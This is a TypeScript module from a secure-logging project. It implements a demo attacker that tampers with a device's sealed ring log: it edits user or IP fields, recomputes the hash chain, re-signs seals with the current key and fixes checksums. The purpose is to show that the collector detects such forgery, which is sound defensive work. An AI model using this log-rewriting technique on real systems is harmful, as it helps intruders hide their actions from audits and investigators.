/**
 * The demo's attacker: someone with root on a device who rewrites its ring
 * file to hide what they did, as well as anyone can without the erased key.
 *
 * Written from the documented file format (docs/agent-ring.md), not with the
 * agent's own ring code, the way an attacker would. The rewrite is careful:
 *
 *   1. edit one record of a sealed, not yet shipped epoch (same byte length,
 *      so no frame moves);
 *   2. recompute the hash chain from there on (the chain is keyless), so
 *      every `prev` and every seal's `chain_head` fits again;
 *   3. re-sign the seals that covered the old history with the only seal key
 *      left on the device, the CURRENT one from the state slots (the
 *      CVE-2023-31439 move against journald), and put the new tag into the
 *      state so the next seal links to it;
 *   4. fix every CRC-32C (frames and state slots).
 *
 * What it cannot do is make the epoch's tag under k_e, erased when the epoch
 * closed. The collector, which derives k_e from the escrowed k_0, finds that
 * the seal was made by a later key (`resealed`) and records
 * log_integrity_fail; the evidence is seclog's own check, not this file.
 *
 *   ring file:  slot A (0) | superblock (4096) | slot B (8192) | data (12288 …)
 *   frame:      FE 53 kind flags | len u32 | seq u64 | ringId u32 | payload crc | header crc | payload
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { canonicalize, chainHash, computeSealTag, type LogSealAttrs, recordDigest, sealBody, sealKey } from '@seclog/core';

const PAGE = 4096;
const SLOT_OFFSETS = [0, 2 * PAGE] as const;
const DATA_OFFSET = 3 * PAGE;
const FRAME_HEADER = 28;
const KIND_RECORD = 1;
const SLOT_FIXED = 80;

/** CRC-32C (Castagnoli), bitwise: the ring's checksum. Slow and small; the demo's ring is small too. */
function crc32c(buf: Uint8Array, start = 0, end = buf.length): number {
  let c = 0xffffffff;
  for (let i = start; i < end; i++) {
    c ^= buf[i] as number;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0x82f63b78 : c >>> 1;
  }
  return ~c >>> 0;
}

interface Frame {
  /** Offset of the frame header in the file. */
  readonly at: number;
  readonly seq: number;
  readonly length: number;
  rec: Record<string, unknown>;
}

interface Slot {
  readonly at: number;
  readonly blobLength: number;
  readonly ackedSeq: number;
  readonly generation: number;
  state: { sealer: { key: string; epoch: number; prevSealTag: string; deviceId: string; stream: string } | null };
}

export interface RingRewrite {
  /** The first record edited, how many were, and how. */
  readonly seq: number;
  readonly edited: number;
  readonly field: string;
  readonly from: string;
  readonly to: string;
  /** Records whose `prev` (and seals whose chain_head and tag) were recomputed. */
  readonly rechained: number;
  /** Seals re-signed with the current key, and that key's epoch. */
  readonly resealed: readonly number[];
  readonly keyEpoch: number;
}

function readSlots(file: Buffer, ringId: number): Slot[] {
  const slots: Slot[] = [];
  for (const at of SLOT_OFFSETS) {
    if (file.readUInt32BE(at) !== 0x534c4f54 || file.readUInt32BE(at + 16) !== ringId) continue;
    const blobLength = file.readUInt32BE(at + 20);
    const end = at + SLOT_FIXED + blobLength;
    if (crc32c(file, at, end) !== file.readUInt32BE(end)) continue;
    slots.push({
      at,
      blobLength,
      generation: Number(file.readBigUInt64BE(at + 8)),
      ackedSeq: Number(file.readBigUInt64BE(at + 72)),
      state: JSON.parse(file.subarray(at + SLOT_FIXED, end).toString('utf8')) as Slot['state'],
    });
  }
  return slots.sort((a, b) => b.generation - a.generation);
}

/** The record frames of a ring that has not wrapped yet (the demo's rings are sized so). */
function readFrames(file: Buffer, ringId: number): Frame[] {
  const frames: Frame[] = [];
  let at = DATA_OFFSET;
  while (at + FRAME_HEADER <= file.length) {
    const ok =
      file[at] === 0xfe &&
      file[at + 1] === 0x53 &&
      file.readUInt32BE(at + 16) === ringId &&
      crc32c(file, at, at + 24) === file.readUInt32BE(at + 24);
    if (!ok) break;
    const length = file.readUInt32BE(at + 4);
    if (file[at + 2] === KIND_RECORD) {
      const payload = file.subarray(at + FRAME_HEADER, at + FRAME_HEADER + length);
      frames.push({
        at,
        seq: Number(file.readBigUInt64BE(at + 8)),
        length,
        rec: JSON.parse(payload.toString('utf8')) as Record<string, unknown>,
      });
    }
    at += FRAME_HEADER + length;
  }
  return frames;
}

function writePayload(file: Buffer, f: Frame): void {
  const payload = Buffer.from(canonicalize(f.rec), 'utf8');
  if (payload.length !== f.length) throw new Error(`rewritten record ${f.seq} changed size (${f.length} -> ${payload.length})`);
  payload.copy(file, f.at + FRAME_HEADER);
  file.writeUInt32BE(crc32c(payload), f.at + 20);
  file.writeUInt32BE(crc32c(file, f.at, f.at + 24), f.at + 24);
}

/**
 * Rewrite `path`: every unshipped record for which `pick` returns an edit
 * gets it (a same-length replacement of one actor field), then
 * the chain and seals after it are redone as described above. Throws when
 * there is nothing to edit, or the edit is not in a sealed epoch.
 */
export function rewriteRing(
  path: string,
  pick: (rec: Record<string, unknown>) => { field: 'user' | 'ip'; to: string } | undefined,
): RingRewrite {
  const file = readFileSync(path);
  const ringId = file.readUInt32BE(PAGE + 12);
  const slots = readSlots(file, ringId);
  const slot = slots[0];
  if (slot === undefined || slot.state.sealer === null) throw new Error(`${path}: no readable state slot with a seal key`);
  const sealer = slot.state.sealer;
  const frames = readFrames(file, ringId).sort((a, b) => a.seq - b.seq);
  let target = -1;
  let edited = 0;
  let change: { field: string; from: string; to: string } | undefined;
  for (let i = 0; i < frames.length; i++) {
    const f = frames[i] as Frame;
    if (f.seq <= slot.ackedSeq) continue;
    const edit = pick(f.rec);
    if (edit === undefined) continue;
    const actor = f.rec.actor as Record<string, string>;
    const from = actor[edit.field] as string;
    if (from.length !== edit.to.length) throw new Error('the edit must keep the record size');
    actor[edit.field] = edit.to;
    edited++;
    if (target < 0) target = i;
    change ??= { field: `actor.${edit.field}`, from, to: edit.to };
  }
  if (target < 0 || change === undefined) throw new Error(`${path}: no unshipped record to rewrite`);
  const first = frames[target] as Frame;
  if (!frames.slice(target).some((f) => f.rec.name === 'log_seal')) throw new Error(`${path}: record ${first.seq} is not sealed yet`);

  // The sealing key of the newest epoch is all the device holds; its seal key (sk) tags every rewritten seal.
  const sk = sealKey(Buffer.from(sealer.key, 'hex'));
  let prev: Buffer = Buffer.from(first.rec.prev as string, 'hex');
  let prevSealTag: string | undefined;
  const resealed: number[] = [];
  for (const f of frames.slice(target)) {
    f.rec.prev = prev.toString('hex');
    if (f.rec.name === 'log_seal') {
      const { tag: _old, ...attrs } = f.rec.attrs as LogSealAttrs;
      attrs.chain_head = prev.toString('hex');
      if (prevSealTag !== undefined) attrs.prev_seal_tag = prevSealTag;
      const tag = computeSealTag(sk, sealBody(attrs, sealer.deviceId, sealer.stream));
      f.rec.attrs = { ...attrs, tag };
      prevSealTag = tag;
      resealed.push(f.seq);
    }
    writePayload(file, f);
    prev = chainHash(f.seq, prev, recordDigest(f.rec));
  }

  // The next seal links to the last tag: the state must carry the forged one.
  sealer.prevSealTag = prevSealTag as string;
  const blob = Buffer.from(JSON.stringify(slot.state), 'utf8');
  if (blob.length !== slot.blobLength) throw new Error('the state changed size');
  // Both slots hold the same state after a key evolution (the erase writes both); an older one of another size stays.
  for (const s of slots) {
    if (blob.length !== s.blobLength) continue;
    blob.copy(file, s.at + SLOT_FIXED);
    file.writeUInt32BE(crc32c(file, s.at, s.at + SLOT_FIXED + blob.length), s.at + SLOT_FIXED + blob.length);
  }
  writeFileSync(path, file);
  return {
    seq: first.seq,
    edited,
    ...change,
    rechained: frames.length - target,
    resealed,
    keyEpoch: sealer.epoch,
  };
}
